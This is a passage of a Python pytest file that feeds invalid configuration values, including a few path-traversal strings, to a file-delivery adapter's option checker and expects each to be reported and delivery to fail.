        ({"place": "sftp://h/x", "sftp": {**SFTP, "strict": False}}, "sftp.strict"),
        ({"inbox": "/in"}, "inbox"),
        ({"inbox": "../in"}, "inbox"),
        ({"inbox": "in/"}, "inbox"),
        ({"taken": ["a", "b/../c"]}, "taken"),
        ({"taken": "done"}, "taken"),
        ({"staging": "in"}, "staging"),
        ({"staging": "done"}, "staging"),
        ({"staging": ""}, "staging"),
        ({"name": "letter"}, "name"),
        ({"name": ".{deliveryId}"}, "name"),
        ({"name": "{deliveryId}/x"}, "name"),
        ({"name": "{deliveryId}{subject}"}, "name"),
        ({"names": "original"}, "names"),
        ({"files_folder": "a/b"}, "files_folder"),
        ({"marker": "a/b"}, "marker"),
        ({"marker": "manifest.json"}, "marker"),
        ({"marker_beside": "ready"}, "marker_beside"),
        ({"marker_beside": "."}, "marker_beside"),
        ({"marker_beside": "./x"}, "marker_beside"),
        ({"marker_beside": ".a.b"}, "marker_beside"),
        ({"manifest": {"form": "csv", "mapping": {}}}, "manifest.mapping"),
        ({"manifest": {"form": "csv", "mapping": {"a": {"b": "x"}}}}, "manifest.mapping.a"),
        ({"manifest": {"form": "csv", "mapping": {"a": ["x"]}}}, "manifest.mapping.a"),
        ({"manifest": {**CSV, "each": "]"}}, "manifest.each"),
        ({"manifest": {**CSV, "separator": '"'}}, "manifest.separator"),
        ({"manifest": {**CSV, "bom": "yes"}}, "manifest.bom"),
        ({"manifest": {**MANIFEST, "each": "files"}}, "manifest.each"),
        ({"files_folder": "x", "marker": "x"}, "files_folder"),
        ({"manifest": None}, "manifest"),
        ({"manifest": {}}, "manifest.mapping"),
        ({"manifest": {"mapping": {"a": "]"}}}, "manifest.mapping.a"),
        ({"manifest": {**MANIFEST, "name": "../x"}}, "manifest.name"),
        ({"manifest": {"form": "xml", "mapping": {"a b": "x"}}}, "manifest.mapping.a b"),
        ({"manifest": {"form": "xml", "root": "1", "mapping": {"a": "x"}}}, "manifest.root"),
        ({"readers": "nobody"}, "readers"),
        ({"keeps": "yes"}, "keeps"),
        ({"answers": {}}, "answers.folder"),
        ({"answers": {**ANSWERS, "folder": ".."}}, "answers.folder"),
        ({"answers": {**ANSWERS, "form": "yaml"}}, "answers.form"),
        ({"answers": {**ANSWERS, "charset": "base64"}}, "answers.charset"),
        ({"answers": {**ANSWERS, "charset": "no such"}}, "answers.charset"),
        ({"answers": {**ANSWERS, "form": "csv", "separator": "ab"}}, "answers.separator"),
        ({"answers": {**ANSWERS, "after": "move"}}, "answers.moved_to"),
        ({"answers": {**ANSWERS, "after": "move", "moved_to": "rep"}}, "answers.moved_to"),
        ({"answers": {**ANSWERS, "reads": {"register_number": "n"}}}, "answers.reads.delivery_id"),
        ({"unknown": 1}, "unknown"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)  # fmt: skip
def test_wrong_options_are_named(changes: Mapping[str, Any], key: str) -> None:
    wrong = {
        name: value for name, value in {**options(Path("/srv/wasl")), **changes}.items() if value is not None
    }
    faults = ADAPTER.check_options(wrong)
    assert any(fault.startswith(f"{key}:") for fault in faults), faults
    bad = Context(ScriptedHttp([]), wrong, {}.__getitem__, lambda: NOW, folders=(Path("/srv"),))
    with pytest.raises(Temporary, match="WASL-DLV-007"):
        ADAPTER.deliver(letter(), bad)
